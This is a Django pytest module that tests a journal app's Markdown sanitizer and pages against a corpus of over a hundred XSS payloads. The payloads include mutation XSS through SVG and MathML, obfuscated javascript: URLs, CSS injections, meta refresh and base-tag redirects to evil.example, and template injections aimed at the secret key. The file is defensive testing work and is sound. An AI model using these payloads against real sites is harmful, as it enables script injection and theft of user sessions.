"""Script injection: a corpus of hostile Markdown, through every path that shows it.

The corpus is the PAYLOADS of test_markdown.py plus the ones below. Each payload goes
through `render_markdown`, an entry's stored body_html, a timeline note's note_html, and the
pages that show them to their owner (the entry, the timeline, search results with their
highlighted snippets, the search box that repeats the query). Safety is judged by parsing
the HTML with html5lib, as a browser would, never by searching strings.

On a page, the app's own markup (its scripts, forms, SVG pictures) is legitimately there, so
a page is judged by difference: every element that the payload added or changed, compared
with the same page showing harmless words, must pass the same checks as the sanitizer's
output.
"""

import copy
import re
from collections import Counter
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.conf import settings
from django.db import transaction
from django.test import Client
from django.test.client import ClientHandler
from django.urls import reverse

from journal.markdown import render_markdown
from journal.models import EventKind, TimelineEvent
from tests.factories import make_entry, make_user, sign_in
from tests.journal.test_markdown import (
    ALLOWED_SCHEMES,
    FORBIDDEN_ELEMENTS,
    PAYLOADS,
    URL_ATTRIBUTES,
    parsed,
)

# Django template syntax: shown as the words that were written, never evaluated.
TEMPLATE_PAYLOADS = [
    "{{ request }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'css/mirror.css' %}",
    "{% include 'base.html' %}",
    "{{ request.user.password }}",
    "{% csrf_token %}",
    "{{ entry.user.email }} {{ user.email }}",
    "{% now 'Y' %} {{ 7|add:7 }}",
    "{% templatetag openblock %} {# a comment #}",
    "{{ 7 * 7 }} ${7 * 7} <%= 7 * 7 %> #{7 * 7}",
]

MORE_PAYLOADS = [
    # Python-Markdown extension syntax: attr_list is not enabled, so it must stay text.
    'Click me{: onclick="alert(1)" }',
    '# Heading {#id .class onmouseover="alert(1)"}',
    '[link](https://ok.example){: onclick="alert(1)" }',
    '![img](https://ok.example/x.png){: onerror="alert(1)" }',
    'A paragraph\n{: style="background:url(javascript:alert(1))" }',
    "*emph*{: .evil onfocus=alert(1) autofocus tabindex=1 }",
    '[x](https://ok.example){: href="javascript:alert(1)" }',
    '<div markdown="1" onclick="alert(1)">*inside*</div>',
    "```{.python onclick=alert(1)}\nx = 1\n```",
    # Reference-style links and footnote syntax with script schemes.
    '[link][ref]\n\n[ref]: javascript:alert(1) "title"',
    "[link][ref]\n\n[ref]: <javascript:alert(1)>",
    "[link]\n\n[link]: JaVaScRiPt:alert(1)",
    "[link][ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[link][ref]\n\n[ref]: vbscript:msgbox(1)",
    "Text[^1]\n\n[^1]: [note](javascript:alert(1))",
    "Text[^1]\n\n[^1]: javascript:alert(1)",
    "Text[^note]\n\n[^note]: <script>alert(1)</script>",
    # SVG and MathML: namespace confusion and mutation XSS.
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
    '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    '<text x="20" y="20">click</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMu'
    'b3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    # Raw-text and escapable elements used to break out of an attribute.
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    "<plaintext><script>alert(1)</script>",
    # HTML comments, CDATA and processing instructions.
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<? foo="><script>alert(1)</script>">',
    '<a href="https://ok.example/<!--">x</a><img src=x onerror=alert(1)>-->',
    "<!-- <!-- nested --> <script>alert(1)</script> -->",
    # Schemes hidden by entities, whitespace and control characters.
    '<a href="java&#x0A;script:alert(1)">newline entity</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded entities</a>',
    '<a href="jav\tascript:alert(1)">raw tab</a>',
    '<a href="\x01javascript:alert(1)">control character</a>',
    '<a href="javascript&NewLine;:alert(1)">named newline</a>',
    '<a href="javascript&Tab;:alert(1)">named tab</a>',
    '<a href="javas&#99;ript&#x3a;alert(1)">mixed entities</a>',
    '<a href="&#x01;javascript:alert(1)">control entity</a>',
    '<a href="\u00a0javascript:alert(1)">no-break space</a>',
    '<a href="javascript\uff1aalert(1)">full-width colon</a>',
    "[x](javascript\uff1aalert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](javascript:/**/alert(1))",
    "[x](java\u200bscript:alert(1))",
    '<a href="livescript:alert(1)">livescript</a>',
    "[x](livescript:alert(1))",
    '[x](vbscript:MsgBox("1"))',
    '<a href="VBScript:MsgBox(1)">vb</a>',
    # data: with different MIME types.
    '<a href="data:text/html,<script>alert(1)</script>">html</a>',
    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">svg</a>',
    "<a href=\"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"
    'alert(1)</x:script>">xhtml</a>',
    "[x](data:text/javascript,alert(1))",
    "[x](data:application/javascript;base64,YWxlcnQoMSk=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    # Autolinks and the linkifier.
    'https://ok.example/"onmouseover="alert(1)',
    'www.example.com/"><script>alert(1)</script>',
    '<https://ok.example/"onmouseover="alert(1)>',
    '<mailto:x@example.com"onmouseover="alert(1)>',
    "[x](/\\evil.example/)",
    # Form actions, meta refresh, base, srcset, ping, xlink.
    '<button formaction="javascript:alert(1)">go</button>',
    '<form><input type="submit" formaction="javascript:alert(1)" value="go"></form>',
    '<isindex type="image" src="1" onerror="alert(1)" formaction="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="session=stolen">',
    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<base href="https://evil.example/">',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>',
    '<a href="https://ok.example/" ping="https://evil.example/track">ping</a>',
    '<a xlink:href="javascript:alert(1)">xlink on html</a>',
    '<a href="https://ok.example/" download="evil.exe" referrerpolicy="unsafe-url">dl</a>',
    # CSS: expressions, url(), imports, bindings.
    '<p style="width: expression(alert(1))">expression</p>',
    '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">url</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="behavior: url(xss.htc)">behaviour</p>',
    '<span style="-moz-binding:url(https://evil.example/xss.xml#x)">binding</span>',
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<link rel="import" href="https://evil.example/x.html">',
    # Attribute breakouts and parser quirks.
    '<a href="https://ok.example" title="&quot; onclick=&quot;alert(1)">quote</a>',
    '<a href="https://ok.example/\'><script>alert(1)</script>">quote in url</a>',
    '<a/href="javascript:alert(1)">slash</a>',
    "<a href = javascript:alert(1)>spaced</a>",
    '<a href="javascript:alert(1)"\n>multi-line</a>',
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    '<a href="https://ok.example" onclick=alert(1)//>x</a>',
    '<abbr title="x" onmouseover="alert(1)">abbr</abbr>',
    '<code class="language-x onclick=alert(1)">code</code>',
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
    '<table><tr><td align="left" onclick="alert(1)">cell</td></tr></table>',
    '```"><script>alert(1)</script>\ncode\n```',
    "``` onclick=alert(1)\ncode\n```",
    "| a |\n|:-- onclick=alert(1) |\n| b |",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
    '<applet code="x.class"></applet>',
    "<frameset onload=alert(1)>",
    '<video poster="javascript:alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    '<div tabindex="1" onfocusin="alert(1)" id="x">focus</div>',
    # Text that only looks like markup must stay text.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "lighthouse \x02<script>alert(1)</script>\x03 lighthouse",
    # What imported text brings: footnotes, task lists, strikethrough.
    "A note[^x]\n\n[^x]: [link](javascript:alert(1)) <img src=x onerror=alert(1)>",
    'A note[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: "><svg onload=alert(1)>',
    'Quote[^1" onmouseover="alert(1)]\n\n[^1" onmouseover="alert(1)]: text',
    "- [ ] <script>alert(1)</script>\n- [x] [done](javascript:alert(1))",
    "~~<img src=x onerror=alert(1)>~~ and ~~[x](javascript:alert(1))~~",
    *TEMPLATE_PAYLOADS,
]

CORPUS = [*PAYLOADS, *MORE_PAYLOADS]

# Known bugs, kept visible: a strict xfail fails again (XPASS) once the bug is fixed.
KNOWN_UNSAFE: dict[str, str] = {}


def payload_id(payload: str) -> str:
    index = CORPUS.index(payload)
    words = re.sub(r"[^0-9A-Za-z]+", "-", payload).strip("-")[:40]
    return f"{index:03d}-{words}"


def corpus_params(payloads=CORPUS):
    return [
        pytest.param(
            payload,
            id=payload_id(payload),
            marks=[pytest.mark.xfail(strict=True, reason=KNOWN_UNSAFE[payload])]
            if payload in KNOWN_UNSAFE
            else [],
        )
        for payload in payloads
    ]


# Judging HTML as a browser reads it --------------------------------------------------------

HTML_NAMESPACE = "http://www.w3.org/1999/xhtml"
# Beyond test_markdown's list: legacy raw-text elements that end differently in different
# parsers, the rest of the foreign-content and embedding family.
MORE_FORBIDDEN_ELEMENTS = {
    "noembed", "noframes", "xmp", "plaintext", "isindex", "keygen", "foreignobject",
    "animate", "set", "use", "mglyph", "maction", "track", "portal", "fencedframe",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {
    "style", "srcdoc", "target", "formaction", "srcset", "ping", "xlink:href", "action",
    "background", "poster", "src", "data", "codebase", "dynsrc", "lowsrc", "http-equiv",
    "autofocus", "download", "referrerpolicy", "is", "xmlns", "href-lang", "attributename",
}  # fmt: skip
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see, erring on the side of finding one: every whitespace
    and control character is removed first (browsers drop leading C0 and space, and tabs
    and newlines anywhere), then a WHATWG scheme is looked for at the start."""
    cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace()).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def element_problems(tag, attributes: dict) -> list[str]:
    """What is wrong with one element (`tag` None for a comment)."""
    if not isinstance(tag, str):
        return ["an HTML comment survived"]
    namespace, _, local = tag[1:].partition("}") if tag.startswith("{") else ("", "", tag)
    local = local.lower()
    problems = []
    if namespace and namespace != HTML_NAMESPACE:
        problems.append(f"<{local}> in the {namespace} namespace (SVG/MathML) survived")
    if local in FORBIDDEN_ELEMENTS | MORE_FORBIDDEN_ELEMENTS:
        problems.append(f"<{local}> survived")
    for raw_name, value in attributes.items():
        name = raw_name.lower()
        if name.startswith("{") or ":" in name:
            problems.append(f"namespaced attribute {raw_name}")
            name = name.rpartition("}")[2].rpartition(":")[2]
        if name.startswith("on"):
            problems.append(f"event handler {raw_name}")
        if name in FORBIDDEN_ATTRIBUTES:
            problems.append(f"attribute {raw_name}")
        if name in URL_ATTRIBUTES | {"href", "xlink:href", "cite", "longdesc", "manifest"}:
            scheme = scheme_of(value)
            if scheme is not None and scheme not in ALLOWED_SCHEMES:
                problems.append(f"{raw_name}={value!r}: scheme {scheme}")
        elif name != "title":
            # No attribute but a link's tooltip holds a script URL, however encoded.
            cleaned = "".join(ch for ch in value if ch.isprintable() and not ch.isspace())
            if any(s in cleaned.lower() for s in SCRIPT_SCHEMES):
                problems.append(f"{raw_name}={value!r} holds a script URL")
    return problems


def assert_safe_strict(html: str) -> None:
    """test_markdown's `assert_safe`, stricter: the head too, namespaces stripped before
    judging a tag, nothing in the SVG or MathML namespace, no comment, no srcset, ping,
    xlink:href, formaction or other fetching attribute, and no script URL in any attribute
    but a link's title."""
    root = parsed(html)
    problems = [
        problem
        for element in root.iter()
        # The whole document, not only <body>: at the start of a fragment, html5lib moves
        # <meta>, <base>, <link>, <style> and <script> into <head>.
        if element.tag not in {"html", "head", "body"}
        for problem in element_problems(element.tag, dict(element.attrib))
    ]
    assert not problems, f"{problems} in {html!r}"


def test_the_corpus_holds_at_least_a_hundred_distinct_payloads():
    assert len(set(CORPUS)) == len(CORPUS), "a payload is listed twice"
    assert len(CORPUS) >= 100


@pytest.mark.parametrize(
    "html",
    [
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<img srcset="https://evil.example/a.png 1x">',
        '<a href="https://ok.example" ping="https://evil.example">x</a>',
        '<button formaction="https://evil.example">x</button>',
        '<a href="java&#x0A;script:alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<span class="javascript&colon;alert(1)">x</span>',
        "<math><mi>x</mi></math>",
        "<p><!-- a comment --></p>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<a href="vbscript:x">x</a>',
    ],
)
def test_the_strict_judge_catches_what_it_should(html):
    with pytest.raises(AssertionError):
        assert_safe_strict(html)


@pytest.mark.parametrize(
    "html",
    [
        '<p><a href="https://ok.example/?q=javascript:x" title="javascript: a note">x</a></p>',
        '<a href="[n](javascript:alert(1))">relative, a path segment</a>',
        '<a href="/entries/">same site</a><code class="language-python">x</code>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; {{ request }}</p>",
    ],
)
def test_the_strict_judge_lets_harmless_html_through(html):
    assert_safe_strict(html)


# (i) render_markdown, and inside Markdown structures -----------------------------------


@pytest.mark.parametrize("payload", corpus_params())
def test_payload_is_inert_when_rendered(payload):
    assert_safe_strict(render_markdown(payload))
    for wrapped in (
        f"> {payload}",
        f"- {payload}",
        f"1. {payload}",
        f"**{payload}**",
        f"| a |\n|---|\n| {payload} |",
        f"[{payload}](https://ok.example)",
        f"# {payload}",
        f"    {payload}",
        f"```\n{payload}\n```",
    ):
        assert_safe_strict(render_markdown(wrapped))


def test_the_whole_corpus_at_once_is_inert():
    """One document of every payload: a payload that leaves a construct open (a comment,
    a raw-text element, a fence) must not turn the next one live."""
    assert_safe_strict(render_markdown("\n\n".join(CORPUS)))
    assert_safe_strict(render_markdown("".join(CORPUS)))


# Links to other sites ---------------------------------------------------------------------

LINK_FORMS = [
    "[x](https://ok.example/)",
    "<https://ok.example/>",
    "https://ok.example/ written bare, and www.example.com too",
    "[x](HTTPS://ok.example/)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    '<a href="/\\evil.example/">x</a>',
    "[x](/entries/) [y](#top) [z](?q=1)",
]
SITE = "https://mirror.example/entries/"


def is_another_site(href: str) -> bool:
    """Where a browser would go: it reads a backslash as a slash in http(s) URLs and drops
    tabs and newlines."""
    cleaned = re.sub(r"[\t\n\r]", "", href.strip()).replace("\\", "/")
    return urlsplit(urljoin(SITE, cleaned)).netloc != urlsplit(SITE).netloc


KNOWN_WITHOUT_REL: dict[str, str] = {}


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(
            payload,
            id=f"{index:03d}-" + re.sub(r"[^0-9A-Za-z]+", "-", payload).strip("-")[:40],
            marks=[pytest.mark.xfail(strict=True, reason=KNOWN_WITHOUT_REL[payload])]
            if payload in KNOWN_WITHOUT_REL
            else [],
        )
        for index, payload in enumerate(dict.fromkeys([*LINK_FORMS, *CORPUS]))
    ],
)
def test_links_to_other_sites_say_nofollow_noopener_noreferrer(payload):
    for link in parsed(render_markdown(payload)).iter("a"):
        href = link.get("href")
        if href is not None and is_another_site(href):
            rel = set(link.get("rel", "").split())
            assert {"nofollow", "noopener", "noreferrer"} <= rel, f"{href!r} has rel={rel}"


# (ii)–(v) the stored HTML and the pages that show it ------------------------------------

SEARCH_WORD = "lighthouse"
# One middleware chain for all the module's requests, built once as in a running server
# (building it scans the static folders: most of the time of a new test client).
_HANDLER = ClientHandler(enforce_csrf_checks=False)


@pytest.fixture(scope="module")
def _module_journal(django_db_setup, django_db_blocker):
    """One writer, one entry and one timeline event, made once for the module (as Django's
    setUpTestData does): each test runs in a savepoint inside this transaction and is
    rolled back to them. The pages showing harmless words are fetched here, once."""
    with django_db_blocker.unblock(), transaction.atomic():
        writer = make_user("writer@example.com", display_name="Writer")
        entry = make_entry(writer, title="Harmless", body=entry_body("harmless words"))
        event = TimelineEvent.objects.create(
            user=writer, kind=EventKind.MEETING, occurred_on=entry.written_on, note="harmless"
        )
        client = Client()
        sign_in(client, writer)
        pages = owner_pages(entry, query="harmless")
        baseline = {name: elements_of(client.get(url)) for name, url in pages.items()}
        yield {"user": writer, "entry": entry, "event": event, "baseline": baseline}
        transaction.set_rollback(True)


@pytest.fixture
def journal(_module_journal, db):
    """A copy per test; the client is made per test too (its session lives in the test's
    savepoint)."""
    journal = {name: copy.deepcopy(_module_journal[name]) for name in ("user", "entry", "event")}
    journal["baseline"] = _module_journal["baseline"]  # only read
    journal["client"] = Client()
    journal["client"].handler = _HANDLER
    sign_in(journal["client"], journal["user"])
    return journal


def entry_body(payload: str) -> str:
    # The search word before and after, in paragraphs of their own, so that the payload
    # keeps its Markdown meaning and lies inside the search snippet.
    return f"{SEARCH_WORD}\n\n{payload}\n\n{SEARCH_WORD}"


def owner_pages(entry, *, query: str) -> dict[str, str]:
    entries = reverse("journal:entry-list")
    return {
        "entry page": entry.get_absolute_url(),
        "timeline": reverse("journal:timeline"),
        "search snippet": f"{entries}?q={SEARCH_WORD}",
        # A word inside most payloads, so the snippet is cut from the middle of the markup.
        "search snippet inside": f"{entries}?q=alert",
        "search box": f"{entries}?{_query_string(query)}",
        "today": reverse("home"),
    }


def _query_string(query: str) -> str:
    return urlencode({"q": query[:200]})


# Parts of a page that change on every request: the CSRF token.
_CSRF = re.compile(r'(name="csrfmiddlewaretoken" value=")[^"]*')


def _signature(element) -> tuple:
    if not isinstance(element.tag, str):
        return ("!comment", (), element.text)
    attributes = dict(element.attrib)
    if element.tag == "input" and attributes.get("name") == "q":
        # The search box repeats the query: text in an attribute, inert once parsed. An
        # escaping mistake would show as new elements, which are judged.
        attributes.pop("value", None)
    return (element.tag, tuple(sorted(attributes.items())), None)


def elements_of(response) -> Counter:
    """Every element of a page as (tag, attributes, text of a comment), counted."""
    assert response.status_code == 200, response.status_code
    return Counter(map(_signature, parsed(_CSRF.sub(r"\1…", response.text)).iter()))


def page_problems(name: str, response, baseline: Counter) -> list[str]:
    added = elements_of(response) - baseline
    return [
        f"{name}: {problem}"
        for tag, attributes, _ in added
        for problem in element_problems(tag if tag != "!comment" else None, dict(attributes))
    ]


@pytest.mark.parametrize("payload", corpus_params())
def test_payload_is_inert_wherever_the_owner_reads_it(payload, journal):
    entry, event, client = journal["entry"], journal["event"], journal["client"]
    entry.title = " ".join(payload.split())[:200]
    entry.body = entry_body(payload)
    entry.save()
    event.note = payload
    event.save()
    entry.refresh_from_db()
    event.refresh_from_db()
    assert_safe_strict(entry.body_html)  # (ii) as stored
    assert_safe_strict(event.note_html)  # (iii) as stored
    problems = []
    for name, url in owner_pages(entry, query=payload).items():  # (iv), (v)
        response = client.get(url)
        problems += page_problems(name, response, journal["baseline"][name])
        if name == "entry page":
            assert entry.body_html in response.text
        if name == "search snippet" and entry.get_absolute_url() in response.text:
            # (PostgreSQL's parser reads text in a quoted attribute of something that looks
            # like a tag as part of the tag, so a few payloads hide the search word there.)
            assert 'class="excerpt snippet"' in response.text, "no snippet to judge"
    assert not problems, problems


def test_a_payload_is_found_and_shown_in_a_snippet(journal):
    """So that the snippet checks above judge snippets, not empty result lists."""
    entry = journal["entry"]
    entry.body = entry_body("<script>alert(1)</script> and <img src=x onerror=alert(1)>")
    entry.save()
    response = journal["client"].get(f"{reverse('journal:entry-list')}?q={SEARCH_WORD}")
    root = parsed(response.text)
    snippets = [e for e in root.iter("p") if "snippet" in e.get("class", "").split()]
    assert len(snippets) == 1
    assert [mark.text for mark in snippets[0].iter("mark")][:1] == [SEARCH_WORD]
    assert {element.tag for element in snippets[0].iter()} == {"p", "mark"}


# Django template syntax stays visible text ------------------------------------------------


def _text(element) -> str:
    return "".join(element.itertext())


@pytest.mark.parametrize("payload", corpus_params(TEMPLATE_PAYLOADS))
def test_template_syntax_is_shown_as_written_never_evaluated(payload, journal):
    entry, event, client = journal["entry"], journal["event"], journal["client"]
    entry.title = payload
    entry.body = payload
    entry.save()
    event.note = payload
    event.save()
    for url in (entry.get_absolute_url(), reverse("journal:timeline")):
        html = client.get(url).text
        root = parsed(html)
        prose = next(e for e in root.iter() if "prose" in e.get("class", "").split())
        assert " ".join(_text(prose).split()) == " ".join(payload.split())
        # Nothing but paragraphs of text: no <input> from {% csrf_token %}, no included page.
        assert {element.tag for element in prose.iter()} <= {"div", "p", "br"}
        if url == entry.get_absolute_url():
            assert _text(next(root.iter("h1"))) == payload
        text = _text(root)
        assert settings.SECRET_KEY not in html
        assert "WSGIRequest" not in text  # {{ request }}
        assert "<module '" not in text and "sys.modules" not in text  # {% debug %}
        assert "md5$" not in text and "pbkdf2" not in text  # a password hash
